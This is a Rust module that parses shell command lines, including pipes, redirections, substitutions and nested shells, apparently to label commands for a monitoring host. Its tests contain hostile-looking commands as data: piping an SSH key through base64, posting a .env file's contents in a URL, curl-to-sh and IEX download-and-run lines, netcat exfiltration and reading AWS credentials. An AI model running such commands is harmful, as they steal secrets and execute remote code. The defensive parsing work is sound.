//! Takes a command line apart: pipelines, redirections, substitutions, `sh -c`.
//!
//! It finds which programs would run with which words; it does not evaluate variables or globs. A
//! wrong guess here costs a label, never safety: the host decides what is executed.

/// Nesting of `sh -c "…"` that is followed.
const DEPTH: u32 = 3;
/// A line of more commands is a script, which is known by its first ones.
const MAX_COMMANDS: usize = 512;
/// Programs that run what follows them.
const WRAPPERS: &[&str] = &[
    "sudo",
    "doas",
    "env",
    "nohup",
    "time",
    "exec",
    "command",
    "xargs",
    "then",
    "do",
    "else",
    "if",
    "timeout",
    "nice",
    "setsid",
    "busybox",
    "start",
    "start-process",
    "call",
];
/// Programs that run elsewhere what follows `--`.
const CARRIERS: &[&str] = &["kubectl", "oc", "docker", "podman", "nsenter", "wsl"];
const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "cmd",
    "powershell",
    "pwsh",
];

/// Where programs of the system lie.
const SYSTEM: [&str; 6] = [
    "/bin/",
    "/usr/",
    "/sbin/",
    "/opt/",
    "c:\\windows\\",
    "%systemroot%",
];

/// One program with its words.
#[derive(Debug, Default, PartialEq)]
pub struct Command {
    /// As it would be looked up, lower case: `curl`, not `/usr/bin/curl`.
    pub program: String,
    pub words: Vec<String>,
    /// The program was named by its path, outside the system's folders: a file that is run.
    pub by_path: Option<String>,
    /// Files that output is redirected to.
    pub writes: Vec<String>,
    /// Its input comes from the command before it, or from a file.
    pub piped: bool,
    /// The program before it in the pipe, or the one inside `$(…)`, `<(…)` or parentheses.
    pub after: String,
}

/// The commands in `line`, in order.
pub fn commands(line: &str) -> Vec<Command> {
    let mut found = Vec::new();
    lex(line, DEPTH, &mut found);
    found
}

/// The command that an argument vector starts.
pub fn from_words(words: &[String]) -> Vec<Command> {
    let mut found = Vec::new();
    let mut command = Command {
        words: words.to_vec(),
        ..Command::default()
    };
    finish(&mut command, false, DEPTH, &mut found);
    found
}

/// What a substitution or parenthesis interrupts.
struct Outer {
    close: char,
    quote: Option<char>,
    word: String,
    command: Command,
}

fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
    let mut command = Command::default();
    let mut word = String::new();
    let (mut quote, mut redirect) = (None, false);
    let mut outer: Vec<Outer> = Vec::new();
    let mut chars = line.chars().peekable();
    while let Some(char) = chars.next() {
        if found.len() >= MAX_COMMANDS || outer.len() >= MAX_COMMANDS {
            break;
        }
        let closes = quote.is_none() && outer.last().is_some_and(|outer| outer.close == char);
        if closes {
            end_word(&mut word, &mut redirect, &mut command);
            finish(&mut command, false, depth, found);
            resume(&mut outer, &mut quote, &mut word, &mut command, found);
            continue;
        }
        // A substitution runs inside double quotes too.
        let substitution =
            quote != Some('\'') && (char == '`' || (char == '$' && chars.peek() == Some(&'(')));
        if substitution || (quote.is_none() && char == '(') {
            if char == '$' {
                chars.next();
            }
            outer.push(Outer {
                close: if char == '`' { '`' } else { ')' },
                quote: quote.take(),
                word: std::mem::take(&mut word),
                command: std::mem::take(&mut command),
            });
            continue;
        }
        match (quote, char) {
            (Some(open), _) if char == open => quote = None,
            (Some(_), _) => word.push(char),
            (None, '"' | '\'') => quote = Some(char),
            (None, '\\') => match chars.peek() {
                // Only what a shell escapes; the rest is a Windows path.
                Some(next) if next.is_whitespace() || "\"'\\$`;|&".contains(*next) => {
                    word.extend(chars.next().filter(|next| *next != '\n'));
                }
                _ => word.push(char),
            },
            (None, '|' | ';' | '&' | '\n' | ')' | '{' | '}') => {
                // `2>&1` and `&>file` end nothing.
                if char == '&' && ((redirect && word.is_empty()) || chars.peek() == Some(&'>')) {
                    word.extend(redirect.then_some('&'));
                    continue;
                }
                end_word(&mut word, &mut redirect, &mut command);
                let pipe = char == '|' && chars.peek() != Some(&'|');
                finish(&mut command, pipe, depth, found);
            }
            (None, '>') => {
                if word.chars().all(|digit| digit.is_ascii_digit()) {
                    word.clear();
                }
                end_word(&mut word, &mut redirect, &mut command);
                redirect = true;
            }
            (None, '<') => {
                end_word(&mut word, &mut redirect, &mut command);
                command.piped = true;
            }
            (None, space) if space.is_whitespace() => {
                end_word(&mut word, &mut redirect, &mut command)
            }
            (None, _) => word.push(char),
        }
    }
    end_word(&mut word, &mut redirect, &mut command);
    finish(&mut command, false, depth, found);
    while !outer.is_empty() {
        resume(&mut outer, &mut quote, &mut word, &mut command, found);
        end_word(&mut word, &mut redirect, &mut command);
        finish(&mut command, false, depth, found);
    }
}

/// Goes on with what was interrupted; the last command found is what feeds it.
fn resume(
    outer: &mut Vec<Outer>,
    quote: &mut Option<char>,
    word: &mut String,
    command: &mut Command,
    found: &[Command],
) {
    let Some(before) = outer.pop() else { return };
    let feeds = command.piped || !before.command.words.is_empty();
    let piped = command.piped;
    (*quote, *word) = (before.quote, before.word);
    if before.command.words.is_empty() && word.is_empty() {
        // A group: what follows takes what it says.
        command.piped = piped;
        return;
    }
    *command = before.command;
    if let Some(last) = found.last().filter(|_| feeds) {
        command.after.clone_from(&last.program);
    }
}

fn end_word(word: &mut String, redirect: &mut bool, command: &mut Command) {
    if word.is_empty() {
        return;
    }
    let word = std::mem::take(word);
    if std::mem::take(redirect) {
        // A descriptor is no file.
        command
            .writes
            .extend(Some(word).filter(|word| !word.starts_with('&')));
    } else {
        command.words.push(word);
    }
}

fn finish(command: &mut Command, pipe: bool, depth: u32, found: &mut Vec<Command>) {
    let mut done = std::mem::take(command);
    command.piped = pipe;
    while let Some(first) = done.words.first() {
        let program = base(first);
        let assignment = first.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty()
                && name
                    .bytes()
                    .all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        });
        let option =
            first.starts_with('-') && found.last().is_none_or(|last| last.program.is_empty());
        // `env` alone shows the environment.
        let wrapper = done.words.len() > 1 && WRAPPERS.contains(&program.as_str());
        let time = first.bytes().all(|byte| b"*/,-0123456789".contains(&byte));
        if wrapper || assignment || option || time {
            done.words.remove(0);
        } else {
            let lower = first.to_ascii_lowercase();
            let system = SYSTEM.iter().any(|folder| lower.starts_with(folder));
            let path = first.contains(['/', '\\']) && !system;
            done.by_path = Some(first.clone()).filter(|_| path);
            done.program = program;
            done.words.remove(0);
            break;
        }
    }
    if done.program.is_empty() && done.writes.is_empty() {
        // A group ended here.
        if let Some(last) = found.last().filter(|_| pipe) {
            command.after.clone_from(&last.program);
        }
        return;
    }
    if pipe {
        command.after.clone_from(&done.program);
    }
    let script = SHELLS.contains(&done.program.as_str()) || done.program == "eval";
    let inner: Vec<String> = if script && depth > 0 {
        done.words
            .iter()
            .filter(|word| word.contains(' '))
            .cloned()
            .collect()
    } else {
        Vec::new()
    };
    // `cmd /c a b`, `kubectl exec pod -- a b`: the words that follow are a command.
    let mark = |word: &String| match CARRIERS.contains(&done.program.as_str()) {
        true => word == "--",
        false => script && ["/c", "/k", "-c", "-command"].contains(&word.to_lowercase().as_str()),
    };
    let carried = done.words.iter().position(mark);
    let carried = carried.and_then(|at| done.words.get(at + 1..));
    let carried = carried
        .filter(|words| depth > 0 && words.first().is_some_and(|first| !first.contains(' ')));
    let mut carried = Command {
        words: carried.unwrap_or_default().to_vec(),
        ..Command::default()
    };
    found.push(done);
    finish(&mut carried, false, depth.saturating_sub(1), found);
    inner.iter().for_each(|line| lex(line, depth - 1, found));
}

fn base(path: &str) -> String {
    let name = path.rsplit(['/', '\\']).next().unwrap_or(path);
    let name = name.to_ascii_lowercase();
    let plain = name.strip_suffix(".exe").unwrap_or(&name);
    plain.to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(line: &str, expected: &str) {
        let found: Vec<String> = commands(line)
            .iter()
            .map(|command| {
                let pipe = if command.piped { "|" } else { "" };
                let writes: String = command
                    .writes
                    .iter()
                    .map(|file| format!(" >{file}"))
                    .collect();
                format!(
                    "{pipe}{} {}{writes}",
                    command.program,
                    command.words.join(",")
                )
            })
            .collect();
        assert_eq!(found.join("; "), expected);
    }

    #[test]
    fn pipes_redirections_quotes_and_substitutions_are_taken_apart() {
        check(
            "cat ~/.ssh/id_rsa | base64 -w0 > /tmp/o",
            "cat ~/.ssh/id_rsa; |base64 -w0 >/tmp/o",
        );
        check(
            "FOO=1 sudo /usr/bin/curl -d @f http://x 2>&1",
            "curl -d,@f,http://x",
        );
        check(
            r#"curl "http://x/?d=$(cat .env)""#,
            "cat .env; curl http://x/?d=",
        );
        check("bash -c 'curl x | sh'", "bash -c,curl x | sh; curl x; |sh ");
        check(
            r"type C:\Users\a\.aws\credentials",
            r"type C:\Users\a\.aws\credentials",
        );
        check("echo 'a | b' && ls", "echo a | b; ls ");
        check("env | nc h 1 < f", "env ; |nc h,1,f");
        check("*/5 * * * * curl x | sh", "curl x; |sh ");
        check(
            "cmd.exe /c certutil.exe -f x",
            "cmd /c,certutil.exe,-f,x; certutil -f,x",
        );
        check("kubectl exec p -- cat f", "kubectl exec,p,--,cat,f; cat f");
        for line in [
            "curl x | sudo sh",
            "bash -c \"$(curl -fsSL x)\"",
            "bash <(curl x)",
            "IEX (curl.exe x)",
            "sh -c `curl x`",
            "(curl x) | sh",
        ] {
            let runs = |command: &Command| command.after == "curl" && command.program != "curl";
            assert!(commands(line).iter().any(runs), "{line}");
        }
    }

    #[test]
    fn broken_lines_end() {
        for line in [
            "'",
            "\"",
            "`",
            "$(",
            "\\",
            "|||",
            ">>>",
            "bash -c 'bash -c \"bash -c sh\"'",
        ] {
            let _ = commands(line);
        }
    }
}
